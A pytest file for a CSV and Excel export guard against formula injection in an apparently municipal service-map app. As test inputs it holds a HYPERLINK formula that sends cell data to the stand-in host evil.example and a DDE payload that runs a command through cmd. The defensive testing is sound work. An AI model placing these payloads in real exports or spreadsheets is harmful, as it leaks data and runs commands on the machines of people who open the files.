"""The shared CSV writer and the formula guard (security probe: formula injection)."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from app.core.csvio import FORMULA_START, guard_cell, guard_workbook_cell, to_csv
from tests.exports.helpers import put

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klikk")'
CMD = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_prefixed(start):
    assert guard_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize(
    "value, expected",
    [
        (None, ""),
        ("", ""),
        (42, "42"),
        (-3, "'-3"),  # a negative number is text the writer made: still no formula
        ("Bergen", "Bergen"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),  # a spreadsheet reads a leading space as text
        ("'=x", "'=x"),
        ("\n=1", "\n=1"),
    ],
)
def test_other_cells_pass_unchanged(value, expected):
    assert guard_cell(value) == expected


def test_to_csv_guards_every_cell_and_writes_a_bom():
    body = to_csv(["=h", "b"], [[HYPERLINK, CMD], ["@SUM(A1)", "Årstad"]])
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body[3:].decode())))
    assert rows == [["'=h", "b"], ["'" + HYPERLINK, "'" + CMD], ["'@SUM(A1)", "Årstad"]]


def test_workbook_cells_keep_their_text_and_are_marked_as_text():
    wb = Workbook()
    ws = wb.active
    for row, value in enumerate([HYPERLINK, CMD, "Bergen", 7], start=1):
        ws.cell(row=row, column=1).value = value
        guard_workbook_cell(ws.cell(row=row, column=1))
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert [back.cell(row=r, column=1).value for r in range(1, 5)] == [HYPERLINK, CMD, "Bergen", 7]
    assert [back.cell(row=r, column=1).data_type for r in range(1, 4)] == ["s", "s", "s"]
    assert back.cell(row=1, column=1).quotePrefix and back.cell(row=2, column=1).quotePrefix
    assert not back.cell(row=3, column=1).quotePrefix


def test_service_map_csv_is_guarded(client, world, session, auth):
    """The probe's finding: a text and a unit name came out raw in the public map CSV."""
    put(session, world, world.region, "helsestasjon", text=HYPERLINK)
    r = client.post(
        "/v1/localities/4601/services",
        json={"service_type": "fastlege", "name": CMD},
        headers=auth("editor", "4601"),
    )
    assert r.status_code == 201, r.text
    r = client.get("/v1/localities/4601/service-map", params={"format": "csv"})
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.content[3:].decode())) for c in row]
    assert "'" + HYPERLINK in cells
    assert any(c.startswith("'" + CMD) for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
